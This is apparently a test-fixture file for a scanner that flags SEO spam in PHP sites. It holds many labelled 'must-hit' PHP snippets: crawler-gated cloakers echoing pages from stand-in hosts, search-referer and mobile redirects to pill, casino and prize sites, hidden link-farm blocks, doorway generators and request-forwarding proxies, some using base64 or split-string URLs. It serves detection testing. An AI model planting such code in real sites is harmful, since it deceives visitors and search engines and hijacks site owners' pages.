# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4o: SEO spam injections, cloakers and doorways.

Variants of real-world shapes written for the tests (crawler User-Agent or search-engine Referer
tests that fetch remote pages or redirect, remote doorway templates fed with this host and the
request, hidden link blocks, keyword doorway generators, mobile-only redirects); nothing here
comes from the malware corpus.  Near-misses are legit shapes: analytics that skip bots, caches
that serve bots a local copy, feeds, share counters/links, m.-site redirects, API proxies.
Each PHP snippet is checked as written, `padded(...)` (behind 5 KB of neutral HTML, the way code
is injected into a bigger page) and `embedded(...)` (at the top of a 35 KB plugin-style file).
Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import embedded, padded, plain

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    echo file_get_contents('http://spam-links.example.top/page.php?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']));\n    exit;\n}\n?>"
        ),
        True,
    ),  # ua_fgc_echo plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    echo file_get_contents('http://spam-links.example.top/page.php?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']));\n    exit;\n}\n?>"
        ),
        True,
    ),  # ua_fgc_echo padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    echo file_get_contents('http://spam-links.example.top/page.php?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']));\n    exit;\n}\n?>"
        ),
        True,
    ),  # ua_fgc_echo embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (preg_match('/(googlebot|bingbot|slurp|baiduspider|yandex)/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $c = curl_init();\n    curl_setopt($c, CURLOPT_URL, \"http://doorway.example.ru/get.php?host=\" . $_SERVER['HTTP_HOST'] . \"&uri=\" . $_SERVER['REQUEST_URI']);\n    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n    $html = curl_exec($c);\n    curl_close($c);\n    echo $html;\n    die();\n}\n?>"
        ),
        True,
    ),  # ua_preg_curl plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nif (preg_match('/(googlebot|bingbot|slurp|baiduspider|yandex)/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $c = curl_init();\n    curl_setopt($c, CURLOPT_URL, \"http://doorway.example.ru/get.php?host=\" . $_SERVER['HTTP_HOST'] . \"&uri=\" . $_SERVER['REQUEST_URI']);\n    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n    $html = curl_exec($c);\n    curl_close($c);\n    echo $html;\n    die();\n}\n?>"
        ),
        True,
    ),  # ua_preg_curl padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (preg_match('/(googlebot|bingbot|slurp|baiduspider|yandex)/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $c = curl_init();\n    curl_setopt($c, CURLOPT_URL, \"http://doorway.example.ru/get.php?host=\" . $_SERVER['HTTP_HOST'] . \"&uri=\" . $_SERVER['REQUEST_URI']);\n    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n    $html = curl_exec($c);\n    curl_close($c);\n    echo $html;\n    die();\n}\n?>"
        ),
        True,
    ),  # ua_preg_curl embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$ref = $_SERVER['HTTP_REFERER'];\nif (stristr($ref, 'google.') || stristr($ref, 'bing.') || stristr($ref, 'yahoo.')) {\n    header('Location: http://cheap-pills.example.xyz/?src=' . $_SERVER['HTTP_HOST']);\n    exit();\n}\n?>"
        ),
        True,
    ),  # ref_redirect plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$ref = $_SERVER['HTTP_REFERER'];\nif (stristr($ref, 'google.') || stristr($ref, 'bing.') || stristr($ref, 'yahoo.')) {\n    header('Location: http://cheap-pills.example.xyz/?src=' . $_SERVER['HTTP_HOST']);\n    exit();\n}\n?>"
        ),
        True,
    ),  # ref_redirect padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$ref = $_SERVER['HTTP_REFERER'];\nif (stristr($ref, 'google.') || stristr($ref, 'bing.') || stristr($ref, 'yahoo.')) {\n    header('Location: http://cheap-pills.example.xyz/?src=' . $_SERVER['HTTP_HOST']);\n    exit();\n}\n?>"
        ),
        True,
    ),  # ref_redirect embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            '<?php\nif (preg_match("/google|yahoo|bing|yandex|baidu/i", @$_SERVER["HTTP_REFERER"])) {\n    echo \'<script>window.location.href="https://casino-best.example.top/";</script>\';\n    exit;\n}\n?>'
        ),
        True,
    ),  # ref_js_redirect plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            '<?php\nif (preg_match("/google|yahoo|bing|yandex|baidu/i", @$_SERVER["HTTP_REFERER"])) {\n    echo \'<script>window.location.href="https://casino-best.example.top/";</script>\';\n    exit;\n}\n?>'
        ),
        True,
    ),  # ref_js_redirect padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            '<?php\nif (preg_match("/google|yahoo|bing|yandex|baidu/i", @$_SERVER["HTTP_REFERER"])) {\n    echo \'<script>window.location.href="https://casino-best.example.top/";</script>\';\n    exit;\n}\n?>'
        ),
        True,
    ),  # ref_js_redirect embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$r = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($r, 'google') !== false or strpos($r, 'bing') !== false) {\n    print '<meta http-equiv=\"refresh\" content=\"0;url=http://replica-bags.example.cn/\">';\n    exit;\n}\n?>"
        ),
        True,
    ),  # ref_meta_refresh plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$r = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($r, 'google') !== false or strpos($r, 'bing') !== false) {\n    print '<meta http-equiv=\"refresh\" content=\"0;url=http://replica-bags.example.cn/\">';\n    exit;\n}\n?>"
        ),
        True,
    ),  # ref_meta_refresh padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$r = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($r, 'google') !== false or strpos($r, 'bing') !== false) {\n    print '<meta http-equiv=\"refresh\" content=\"0;url=http://replica-bags.example.cn/\">';\n    exit;\n}\n?>"
        ),
        True,
    ),  # ref_meta_refresh embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$bots = array('Googlebot', 'Bingbot', 'Baiduspider', 'YandexBot', 'Slurp');\n$agent = $_SERVER['HTTP_USER_AGENT'];\nforeach ($bots as $b) {\n    if (stripos($agent, $b) !== false) {\n        $page = @file_get_contents('http://links.example.pw/feed/' . $_SERVER['HTTP_HOST'] . '.txt');\n        echo $page;\n        break;\n    }\n}\n?>"
        ),
        True,
    ),  # inarray_bots plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$bots = array('Googlebot', 'Bingbot', 'Baiduspider', 'YandexBot', 'Slurp');\n$agent = $_SERVER['HTTP_USER_AGENT'];\nforeach ($bots as $b) {\n    if (stripos($agent, $b) !== false) {\n        $page = @file_get_contents('http://links.example.pw/feed/' . $_SERVER['HTTP_HOST'] . '.txt');\n        echo $page;\n        break;\n    }\n}\n?>"
        ),
        True,
    ),  # inarray_bots padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$bots = array('Googlebot', 'Bingbot', 'Baiduspider', 'YandexBot', 'Slurp');\n$agent = $_SERVER['HTTP_USER_AGENT'];\nforeach ($bots as $b) {\n    if (stripos($agent, $b) !== false) {\n        $page = @file_get_contents('http://links.example.pw/feed/' . $_SERVER['HTTP_HOST'] . '.txt');\n        echo $page;\n        break;\n    }\n}\n?>"
        ),
        True,
    ),  # inarray_bots embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {\n    $u = base64_decode('aHR0cDovL3NwYW0uZXhhbXBsZS50b3AvZ2V0LnBocD9kPQ==');\n    echo @file_get_contents($u . $_SERVER['HTTP_HOST'] . '&p=' . urlencode($_SERVER['REQUEST_URI']));\n    exit;\n}\n?>"
        ),
        True,
    ),  # b64_url plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {\n    $u = base64_decode('aHR0cDovL3NwYW0uZXhhbXBsZS50b3AvZ2V0LnBocD9kPQ==');\n    echo @file_get_contents($u . $_SERVER['HTTP_HOST'] . '&p=' . urlencode($_SERVER['REQUEST_URI']));\n    exit;\n}\n?>"
        ),
        True,
    ),  # b64_url padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {\n    $u = base64_decode('aHR0cDovL3NwYW0uZXhhbXBsZS50b3AvZ2V0LnBocD9kPQ==');\n    echo @file_get_contents($u . $_SERVER['HTTP_HOST'] . '&p=' . urlencode($_SERVER['REQUEST_URI']));\n    exit;\n}\n?>"
        ),
        True,
    ),  # b64_url embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$a = 'ht' . 'tp://'; $b = 'seo-cloud' . '.example' . '.top'; $c = '/api.php?site=';\n$ua = @$_SERVER['HTTP_USER_AGENT'];\nif (preg_match('#(google|bing|yahoo|msn|yandex)#i', $ua)) {\n    $data = file_get_contents($a . $b . $c . $_SERVER['SERVER_NAME'] . '&q=' . $_SERVER['QUERY_STRING']);\n    if ($data) { echo $data; exit; }\n}\n?>"
        ),
        True,
    ),  # split_url plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$a = 'ht' . 'tp://'; $b = 'seo-cloud' . '.example' . '.top'; $c = '/api.php?site=';\n$ua = @$_SERVER['HTTP_USER_AGENT'];\nif (preg_match('#(google|bing|yahoo|msn|yandex)#i', $ua)) {\n    $data = file_get_contents($a . $b . $c . $_SERVER['SERVER_NAME'] . '&q=' . $_SERVER['QUERY_STRING']);\n    if ($data) { echo $data; exit; }\n}\n?>"
        ),
        True,
    ),  # split_url padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$a = 'ht' . 'tp://'; $b = 'seo-cloud' . '.example' . '.top'; $c = '/api.php?site=';\n$ua = @$_SERVER['HTTP_USER_AGENT'];\nif (preg_match('#(google|bing|yahoo|msn|yandex)#i', $ua)) {\n    $data = file_get_contents($a . $b . $c . $_SERVER['SERVER_NAME'] . '&q=' . $_SERVER['QUERY_STRING']);\n    if ($data) { echo $data; exit; }\n}\n?>"
        ),
        True,
    ),  # split_url embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (stristr($_SERVER['HTTP_USER_AGENT'], 'Googlebot')) {\n    $fp = fsockopen('spamhost.example.top', 80, $errno, $errstr, 10);\n    fwrite($fp, \"GET /c.php?h=\" . $_SERVER['HTTP_HOST'] . \"&u=\" . $_SERVER['REQUEST_URI'] . \" HTTP/1.0\\r\\nHost: spamhost.example.top\\r\\n\\r\\n\");\n    $out = '';\n    while (!feof($fp)) { $out .= fgets($fp, 1024); }\n    fclose($fp);\n    $parts = explode(\"\\r\\n\\r\\n\", $out, 2);\n    echo $parts[1];\n    exit;\n}\n?>"
        ),
        True,
    ),  # fsock plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nif (stristr($_SERVER['HTTP_USER_AGENT'], 'Googlebot')) {\n    $fp = fsockopen('spamhost.example.top', 80, $errno, $errstr, 10);\n    fwrite($fp, \"GET /c.php?h=\" . $_SERVER['HTTP_HOST'] . \"&u=\" . $_SERVER['REQUEST_URI'] . \" HTTP/1.0\\r\\nHost: spamhost.example.top\\r\\n\\r\\n\");\n    $out = '';\n    while (!feof($fp)) { $out .= fgets($fp, 1024); }\n    fclose($fp);\n    $parts = explode(\"\\r\\n\\r\\n\", $out, 2);\n    echo $parts[1];\n    exit;\n}\n?>"
        ),
        True,
    ),  # fsock padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (stristr($_SERVER['HTTP_USER_AGENT'], 'Googlebot')) {\n    $fp = fsockopen('spamhost.example.top', 80, $errno, $errstr, 10);\n    fwrite($fp, \"GET /c.php?h=\" . $_SERVER['HTTP_HOST'] . \"&u=\" . $_SERVER['REQUEST_URI'] . \" HTTP/1.0\\r\\nHost: spamhost.example.top\\r\\n\\r\\n\");\n    $out = '';\n    while (!feof($fp)) { $out .= fgets($fp, 1024); }\n    fclose($fp);\n    $parts = explode(\"\\r\\n\\r\\n\", $out, 2);\n    echo $parts[1];\n    exit;\n}\n?>"
        ),
        True,
    ),  # fsock embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nfunction is_spider() {\n    $s = strtolower($_SERVER['HTTP_USER_AGENT']);\n    return (strpos($s, 'googlebot') !== false || strpos($s, 'baiduspider') !== false || strpos($s, 'sogou') !== false);\n}\nfunction get_remote($url) {\n    if (function_exists('curl_init')) {\n        $ch = curl_init($url);\n        curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n        curl_setopt($ch, CURLOPT_TIMEOUT, 20);\n        $r = curl_exec($ch); curl_close($ch); return $r;\n    }\n    return file_get_contents($url);\n}\nif (is_spider()) {\n    $content = get_remote('http://www.example-seo.cc/index.php?domain=' . $_SERVER['HTTP_HOST'] . '&path=' . urlencode($_SERVER['REQUEST_URI']));\n    echo $content;\n    exit;\n}\n?>"
        ),
        True,
    ),  # func_isbot plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nfunction is_spider() {\n    $s = strtolower($_SERVER['HTTP_USER_AGENT']);\n    return (strpos($s, 'googlebot') !== false || strpos($s, 'baiduspider') !== false || strpos($s, 'sogou') !== false);\n}\nfunction get_remote($url) {\n    if (function_exists('curl_init')) {\n        $ch = curl_init($url);\n        curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n        curl_setopt($ch, CURLOPT_TIMEOUT, 20);\n        $r = curl_exec($ch); curl_close($ch); return $r;\n    }\n    return file_get_contents($url);\n}\nif (is_spider()) {\n    $content = get_remote('http://www.example-seo.cc/index.php?domain=' . $_SERVER['HTTP_HOST'] . '&path=' . urlencode($_SERVER['REQUEST_URI']));\n    echo $content;\n    exit;\n}\n?>"
        ),
        True,
    ),  # func_isbot padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nfunction is_spider() {\n    $s = strtolower($_SERVER['HTTP_USER_AGENT']);\n    return (strpos($s, 'googlebot') !== false || strpos($s, 'baiduspider') !== false || strpos($s, 'sogou') !== false);\n}\nfunction get_remote($url) {\n    if (function_exists('curl_init')) {\n        $ch = curl_init($url);\n        curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n        curl_setopt($ch, CURLOPT_TIMEOUT, 20);\n        $r = curl_exec($ch); curl_close($ch); return $r;\n    }\n    return file_get_contents($url);\n}\nif (is_spider()) {\n    $content = get_remote('http://www.example-seo.cc/index.php?domain=' . $_SERVER['HTTP_HOST'] . '&path=' . urlencode($_SERVER['REQUEST_URI']));\n    echo $content;\n    exit;\n}\n?>"
        ),
        True,
    ),  # func_isbot embedded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (preg_match('/(android|iphone|ipod|mobile|blackberry|opera mini)/i', $ua) && !preg_match('/bot|spider|crawl/i', $ua)) {\n    header(\"Location: http://mobile-offers.example.top/lp?sub=\" . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # mobile_redirect plain
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        padded(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (preg_match('/(android|iphone|ipod|mobile|blackberry|opera mini)/i', $ua) && !preg_match('/bot|spider|crawl/i', $ua)) {\n    header(\"Location: http://mobile-offers.example.top/lp?sub=\" . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # mobile_redirect padded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        embedded(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (preg_match('/(android|iphone|ipod|mobile|blackberry|opera mini)/i', $ua) && !preg_match('/bot|spider|crawl/i', $ua)) {\n    header(\"Location: http://mobile-offers.example.top/lp?sub=\" . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # mobile_redirect embedded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif (preg_match(\"/iPhone|Android|Mobile/\", $_SERVER[\"HTTP_USER_AGENT\"]) && empty($_COOKIE['seen'])) {\n    setcookie('seen', 1, time() + 86400);\n    echo \"<script>document.location='https://win-prize.example.top/?id=7';</script>\";\n}\n?>"
        ),
        True,
    ),  # mobile_js plain
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        padded(
            "<?php\nif (preg_match(\"/iPhone|Android|Mobile/\", $_SERVER[\"HTTP_USER_AGENT\"]) && empty($_COOKIE['seen'])) {\n    setcookie('seen', 1, time() + 86400);\n    echo \"<script>document.location='https://win-prize.example.top/?id=7';</script>\";\n}\n?>"
        ),
        True,
    ),  # mobile_js padded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        embedded(
            "<?php\nif (preg_match(\"/iPhone|Android|Mobile/\", $_SERVER[\"HTTP_USER_AGENT\"]) && empty($_COOKIE['seen'])) {\n    setcookie('seen', 1, time() + 86400);\n    echo \"<script>document.location='https://win-prize.example.top/?id=7';</script>\";\n}\n?>"
        ),
        True,
    ),  # mobile_js embedded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$links = @file_get_contents('http://linkfarm.example.top/links.php?site=' . $_SERVER['HTTP_HOST']);\necho '<div style=\"display:none\">' . $links . '</div>';\n?>"
        ),
        True,
    ),  # hidden_links plain
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        padded(
            "<?php\n$links = @file_get_contents('http://linkfarm.example.top/links.php?site=' . $_SERVER['HTTP_HOST']);\necho '<div style=\"display:none\">' . $links . '</div>';\n?>"
        ),
        True,
    ),  # hidden_links padded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        embedded(
            "<?php\n$links = @file_get_contents('http://linkfarm.example.top/links.php?site=' . $_SERVER['HTTP_HOST']);\necho '<div style=\"display:none\">' . $links . '</div>';\n?>"
        ),
        True,
    ),  # hidden_links embedded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nif (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {\n    $list = file('http://linkfarm.example.top/list.txt');\n    echo '<div style=\"position:absolute;left:-9999px\">';\n    foreach ($list as $l) { echo '<a href=\"' . trim($l) . '\">' . trim($l) . '</a> '; }\n    echo '</div>';\n}\n?>"
        ),
        True,
    ),  # hidden_links2 plain
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        padded(
            "<?php\nif (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {\n    $list = file('http://linkfarm.example.top/list.txt');\n    echo '<div style=\"position:absolute;left:-9999px\">';\n    foreach ($list as $l) { echo '<a href=\"' . trim($l) . '\">' . trim($l) . '</a> '; }\n    echo '</div>';\n}\n?>"
        ),
        True,
    ),  # hidden_links2 padded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        embedded(
            "<?php\nif (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {\n    $list = file('http://linkfarm.example.top/list.txt');\n    echo '<div style=\"position:absolute;left:-9999px\">';\n    foreach ($list as $l) { echo '<a href=\"' . trim($l) . '\">' . trim($l) . '</a> '; }\n    echo '</div>';\n}\n?>"
        ),
        True,
    ),  # hidden_links2 embedded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$keywords = file('keywords.txt', FILE_IGNORE_NEW_LINES);\n$tpl = file_get_contents('template.html');\nforeach ($keywords as $i => $kw) {\n    $slug = preg_replace('/[^a-z0-9]+/', '-', strtolower($kw));\n    $page = str_replace(array('{KEYWORD}', '{TITLE}'), array($kw, ucwords($kw)), $tpl);\n    file_put_contents($slug . '.html', $page);\n    $sitemap .= '<url><loc>http://' . $_SERVER['HTTP_HOST'] . '/' . $slug . '.html</loc></url>';\n}\nfile_put_contents('sitemap.xml', '<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">' . $sitemap . '</urlset>');\n?>"
        ),
        True,
    ),  # doorway_gen plain
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        padded(
            "<?php\n$keywords = file('keywords.txt', FILE_IGNORE_NEW_LINES);\n$tpl = file_get_contents('template.html');\nforeach ($keywords as $i => $kw) {\n    $slug = preg_replace('/[^a-z0-9]+/', '-', strtolower($kw));\n    $page = str_replace(array('{KEYWORD}', '{TITLE}'), array($kw, ucwords($kw)), $tpl);\n    file_put_contents($slug . '.html', $page);\n    $sitemap .= '<url><loc>http://' . $_SERVER['HTTP_HOST'] . '/' . $slug . '.html</loc></url>';\n}\nfile_put_contents('sitemap.xml', '<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">' . $sitemap . '</urlset>');\n?>"
        ),
        True,
    ),  # doorway_gen padded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        embedded(
            "<?php\n$keywords = file('keywords.txt', FILE_IGNORE_NEW_LINES);\n$tpl = file_get_contents('template.html');\nforeach ($keywords as $i => $kw) {\n    $slug = preg_replace('/[^a-z0-9]+/', '-', strtolower($kw));\n    $page = str_replace(array('{KEYWORD}', '{TITLE}'), array($kw, ucwords($kw)), $tpl);\n    file_put_contents($slug . '.html', $page);\n    $sitemap .= '<url><loc>http://' . $_SERVER['HTTP_HOST'] . '/' . $slug . '.html</loc></url>';\n}\nfile_put_contents('sitemap.xml', '<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">' . $sitemap . '</urlset>');\n?>"
        ),
        True,
    ),  # doorway_gen embedded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$kw = explode(\"\\n\", file_get_contents('http://kw.example.top/k.txt'));\nfor ($i = 0; $i < count($kw); $i++) {\n    $html = file_get_contents('http://kw.example.top/t.php?k=' . urlencode($kw[$i]));\n    $fn = str_replace(' ', '-', trim($kw[$i])) . '.html';\n    file_put_contents(dirname(__FILE__) . '/' . $fn, $html);\n}\necho 'done ' . count($kw);\n?>"
        ),
        True,
    ),  # doorway_remote_kw plain
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        padded(
            "<?php\n$kw = explode(\"\\n\", file_get_contents('http://kw.example.top/k.txt'));\nfor ($i = 0; $i < count($kw); $i++) {\n    $html = file_get_contents('http://kw.example.top/t.php?k=' . urlencode($kw[$i]));\n    $fn = str_replace(' ', '-', trim($kw[$i])) . '.html';\n    file_put_contents(dirname(__FILE__) . '/' . $fn, $html);\n}\necho 'done ' . count($kw);\n?>"
        ),
        True,
    ),  # doorway_remote_kw padded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        embedded(
            "<?php\n$kw = explode(\"\\n\", file_get_contents('http://kw.example.top/k.txt'));\nfor ($i = 0; $i < count($kw); $i++) {\n    $html = file_get_contents('http://kw.example.top/t.php?k=' . urlencode($kw[$i]));\n    $fn = str_replace(' ', '-', trim($kw[$i])) . '.html';\n    file_put_contents(dirname(__FILE__) . '/' . $fn, $html);\n}\necho 'done ' . count($kw);\n?>"
        ),
        True,
    ),  # doorway_remote_kw embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$s = 'http://185.12.1.9/s/';\n$r = file_get_contents($s . '?h=' . $_SERVER['HTTP_HOST'] . '&q=' . urlencode($_SERVER['REQUEST_URI']));\necho $r;\n?>"
        ),
        True,
    ),  # proxy_tiny plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\n$s = 'http://185.12.1.9/s/';\n$r = file_get_contents($s . '?h=' . $_SERVER['HTTP_HOST'] . '&q=' . urlencode($_SERVER['REQUEST_URI']));\necho $r;\n?>"
        ),
        True,
    ),  # proxy_tiny padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\n$s = 'http://185.12.1.9/s/';\n$r = file_get_contents($s . '?h=' . $_SERVER['HTTP_HOST'] . '&q=' . urlencode($_SERVER['REQUEST_URI']));\necho $r;\n?>"
        ),
        True,
    ),  # proxy_tiny embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            '<?php\n$remote = "https://tpl.example.top/";\n$ch = curl_init($remote . "index.php?domain=" . $_SERVER["HTTP_HOST"] . "&uri=" . urlencode($_SERVER["REQUEST_URI"]) . "&ua=" . urlencode($_SERVER["HTTP_USER_AGENT"]));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$out = curl_exec($ch);\nprint $out;\n?>'
        ),
        True,
    ),  # proxy_tiny2 plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            '<?php\n$remote = "https://tpl.example.top/";\n$ch = curl_init($remote . "index.php?domain=" . $_SERVER["HTTP_HOST"] . "&uri=" . urlencode($_SERVER["REQUEST_URI"]) . "&ua=" . urlencode($_SERVER["HTTP_USER_AGENT"]));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$out = curl_exec($ch);\nprint $out;\n?>'
        ),
        True,
    ),  # proxy_tiny2 padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            '<?php\n$remote = "https://tpl.example.top/";\n$ch = curl_init($remote . "index.php?domain=" . $_SERVER["HTTP_HOST"] . "&uri=" . urlencode($_SERVER["REQUEST_URI"]) . "&ua=" . urlencode($_SERVER["HTTP_USER_AGENT"]));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$out = curl_exec($ch);\nprint $out;\n?>'
        ),
        True,
    ),  # proxy_tiny2 embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$url = \"http://tpl.example.top/g.php?host=\" . $_SERVER['HTTP_HOST'] . \"&req=\" . base64_encode($_SERVER['REQUEST_URI']);\n$res = @file_get_contents($url);\nif (strpos($res, 'REDIRECT:') === 0) { header('Location: ' . substr($res, 9)); exit; }\nheader('Content-Type: text/html; charset=utf-8');\necho $res;\n?>"
        ),
        True,
    ),  # proxy_headers plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\n$url = \"http://tpl.example.top/g.php?host=\" . $_SERVER['HTTP_HOST'] . \"&req=\" . base64_encode($_SERVER['REQUEST_URI']);\n$res = @file_get_contents($url);\nif (strpos($res, 'REDIRECT:') === 0) { header('Location: ' . substr($res, 9)); exit; }\nheader('Content-Type: text/html; charset=utf-8');\necho $res;\n?>"
        ),
        True,
    ),  # proxy_headers padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\n$url = \"http://tpl.example.top/g.php?host=\" . $_SERVER['HTTP_HOST'] . \"&req=\" . base64_encode($_SERVER['REQUEST_URI']);\n$res = @file_get_contents($url);\nif (strpos($res, 'REDIRECT:') === 0) { header('Location: ' . substr($res, 9)); exit; }\nheader('Content-Type: text/html; charset=utf-8');\necho $res;\n?>"
        ),
        True,
    ),  # proxy_headers embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
